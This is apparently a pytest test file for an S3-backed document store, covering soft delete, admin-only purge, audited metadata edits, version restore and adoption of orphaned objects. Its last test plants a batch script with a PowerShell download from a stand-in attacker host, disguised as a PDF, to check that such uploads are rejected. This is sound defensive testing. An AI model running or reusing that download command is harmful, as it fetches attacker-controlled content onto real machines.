"""Soft delete, restore, purge (every version and delete marker), metadata edits,
versions and reconcile, with their audit entries."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from datetime import timedelta
from pathlib import Path

import pytest

from core.errors import AccessDeniedError, InputError
from core.files.catalogue import get_file, list_files
from core.files.download import download_file
from core.files.lifecycle import object_versions, purge, restore, soft_delete
from core.files.metadata import update_metadata
from core.files.reconcile import adopt, find_orphans, settle_uploading
from core.files.upload import UploadRequest, upload_file
from core.files.versions import list_versions, restore_version
from core.models import FileRecord, utcnow
from core.runtime import Runtime
from core.validation import FileQuery
from core.vocabulary import FileStatus
from tests.core.files.conftest import pdf_bytes
from tests.core.files.test_upload import sha256_b64


@pytest.fixture
def record(runtime: Runtime, make_file: Callable[..., Path]) -> FileRecord:
    path = make_file("Contract.pdf", pdf_bytes())
    return upload_file(runtime, UploadRequest(path=path, tags=["a"]))


def actions(runtime: Runtime) -> list[str]:
    return [e["action"] for e in runtime.store.auditlog.find().sort("at", 1)]


def test_soft_delete_and_restore(runtime: Runtime, record: FileRecord) -> None:
    deleted = soft_delete(runtime, str(record.id))
    assert deleted.status == FileStatus.DELETED
    assert deleted.deletedBy == "tester" and deleted.deletedAt is not None
    assert list_files(runtime, FileQuery()).items == []
    with pytest.raises(InputError, match="already deleted"):
        soft_delete(runtime, str(record.id))
    back = restore(runtime, str(record.id))
    assert back.status == FileStatus.COMPLETED and back.deletedAt is None
    assert actions(runtime)[-2:] == ["delete", "restore"]
    # the bytes never left S3 (the guide's soft delete); purge is what removes them
    assert object_versions(runtime.aws.s3, record.s3Info.bucket, record.key)


def test_purge_needs_the_name_and_removes_every_version(
    runtime: Runtime, record: FileRecord
) -> None:
    s3, bucket = runtime.aws.s3, record.s3Info.bucket
    s3.put_object(Bucket=bucket, Key=record.key, Body=b"%PDF-1.4 second version")
    s3.delete_object(Bucket=bucket, Key=record.key)  # a delete marker
    assert len(object_versions(s3, bucket, record.key)) == 3
    with pytest.raises(AccessDeniedError, match=r"Only an admin may purge Contract\.pdf"):
        purge(runtime, str(record.id), "Contract.pdf")  # even the uploader
    runtime.identity = replace(runtime.whoami(), role="admin")
    with pytest.raises(InputError, match=r"Type 'Contract\.pdf' exactly"):
        purge(runtime, str(record.id), "contract.pdf")
    assert len(object_versions(s3, bucket, record.key)) == 3
    purged, removed = purge(runtime, str(record.id), "Contract.pdf")
    assert removed == 3 and object_versions(s3, bucket, record.key) == []
    assert purged.status == FileStatus.DELETED and purged.model_extra
    assert purged.model_extra["purgedBy"] == "tester"
    with pytest.raises(InputError, match="purged"):
        restore(runtime, str(record.id))
    entry = runtime.store.auditlog.find_one({"action": "purge"})
    assert entry and entry["details"]["versionsRemoved"] == 3


def test_only_the_owner_changes_a_public_file(runtime: Runtime, record: FileRecord) -> None:
    update_metadata(runtime, str(record.id), is_public=True)
    runtime.identity = replace(runtime.whoami(), login="bob")
    assert get_file(runtime, str(record.id)).isPublic  # bob sees it
    for change in (
        lambda: soft_delete(runtime, str(record.id)),
        lambda: update_metadata(runtime, str(record.id), tags=["x"]),
    ):
        with pytest.raises(InputError, match="belongs to tester"):
            change()


def test_metadata_edits_are_audited(runtime: Runtime, record: FileRecord) -> None:
    edited = update_metadata(
        runtime,
        str(record.id),
        add_tags=["b"],
        remove_tags=["a"],
        category="invoice",
        is_public=True,
        client_id="683D063FE345C182EAD5C02A",  # kept as the CRM writes it: lower case
    )
    assert edited.metadata.tags == ["b"] and edited.category.value == "invoice"
    assert edited.isPublic and edited.clientId == "683d063fe345c182ead5c02a"
    entry = runtime.store.auditlog.find_one({"action": "edit-metadata"})
    assert entry
    assert entry["details"]["before"] == {
        "tags": ["a"],
        "category": "general",
        "isPublic": False,
        "clientId": None,
    }
    assert entry["details"]["after"]["clientId"] == "683d063fe345c182ead5c02a"
    cleared = update_metadata(runtime, str(record.id), client_id="")
    assert cleared.clientId is None
    with pytest.raises(InputError, match="Unknown category"):
        update_metadata(runtime, str(record.id), category="secret")


def test_versions_list_download_and_restore(
    runtime: Runtime, record: FileRecord, tmp_path: Path
) -> None:
    s3, bucket = runtime.aws.s3, record.s3Info.bucket
    original = s3.get_object(Bucket=bucket, Key=record.key)["Body"].read()
    s3.put_object(Bucket=bucket, Key=record.key, Body=b"%PDF-1.4 edited elsewhere")
    _, versions = list_versions(runtime, str(record.id))
    assert len(versions) == 2 and versions[0].is_latest and not versions[1].is_latest
    old = next(v for v in versions if v.is_recorded)
    out = tmp_path / "v"
    out.mkdir()
    got = download_file(runtime, str(record.id), out, version_id=old.version_id)
    assert got.path.read_bytes() == original
    restored = restore_version(runtime, str(record.id), old.version_id)
    current = s3.get_object(Bucket=bucket, Key=record.key)
    assert current["Body"].read() == original
    assert restored.s3Info.versionId == current["VersionId"] != old.version_id
    assert restored.metadata.checksum in (None, sha256_b64(original))
    assert len(list_versions(runtime, str(record.id))[1]) == 3
    assert "restore-version" in actions(runtime)


def test_reconcile_settles_stuck_uploads(runtime: Runtime, record: FileRecord) -> None:
    s3, bucket = runtime.aws.s3, record.s3Info.bucket
    stale = utcnow() - timedelta(hours=2)
    # a crashed upload whose bytes did arrive, one that never sent anything, a fresh one
    runtime.store.files.update_one(
        {"_id": record.id}, {"$set": {"status": "uploading", "updatedAt": stale}}
    )
    ghost = record.model_copy(
        update={
            "id": None,
            "key": "general/tester/1-0-ghost.pdf",
            "updatedAt": stale,
            "originalName": "ghost.pdf",
        }
    )
    fresh = record.model_copy(
        update={
            "id": None,
            "key": "general/tester/2-0-fresh.pdf",
            "updatedAt": utcnow(),
            "originalName": "fresh.pdf",
        }
    )
    for doc in (ghost, fresh):
        runtime.store.files.insert_one(doc.to_mongo() | {"status": "uploading"})
    outcome = {s.name: s.outcome for s in settle_uploading(runtime)}
    assert outcome == {"Contract.pdf": "completed", "ghost.pdf": "failed", "fresh.pdf": "waiting"}
    assert get_file(runtime, str(record.id)).status == FileStatus.COMPLETED
    s3.put_object(Bucket=bucket, Key="stray/thing.pdf", Body=pdf_bytes())
    with pytest.raises(InputError, match="admin"):
        find_orphans(runtime)
    runtime.identity = replace(runtime.whoami(), role="admin")
    assert [o.key for o in find_orphans(runtime)] == ["stray/thing.pdf"]
    adopted = adopt(runtime, "stray/thing.pdf")
    assert adopted.status == FileStatus.COMPLETED and adopted.originalName == "thing.pdf"
    assert adopted.size == len(pdf_bytes()) and adopted.metadata.tags == ["adopted"]
    assert find_orphans(runtime) == []
    with pytest.raises(InputError, match="already has a record"):
        adopt(runtime, "stray/thing.pdf")


def test_adopt_reads_the_bytes_not_s3s_content_type(runtime: Runtime) -> None:
    # the guide recorded whatever Content-Type the uploader gave S3
    from tests.core.files.conftest import png_bytes

    runtime.identity = replace(runtime.whoami(), role="admin")
    s3, bucket = runtime.aws.s3, runtime.settings.aws_s3_bucket
    s3.put_object(Bucket=bucket, Key="stray/photo.png", Body=png_bytes(), ContentType="text/html")
    assert adopt(runtime, "stray/photo.png").contentType == "image/png"
    doc = runtime.store.files.find_one({"key": "stray/photo.png"})
    assert doc and doc["contentType"] == "image/png"
    script = b"@echo off\r\npowershell -c iwr evil.example\r\n"
    s3.put_object(
        Bucket=bucket, Key="stray/invoice.pdf", Body=script, ContentType="application/pdf"
    )
    with pytest.raises(InputError) as info:
        adopt(runtime, "stray/invoice.pdf")
    assert str(info.value) == (
        "stray/invoice.pdf not adopted: invoice.pdf: the name says application/pdf but the "
        "content is text/plain. The object stays in the bucket; remove it if it does not "
        "belong there."
    )
    s3.put_object(Bucket=bucket, Key="stray/run.bat", Body=script, ContentType="text/plain")
    with pytest.raises(InputError, match=r"\.bat files \(a Windows program or script\)"):
        adopt(runtime, "stray/run.bat")
    assert runtime.store.files.count_documents({}) == 1
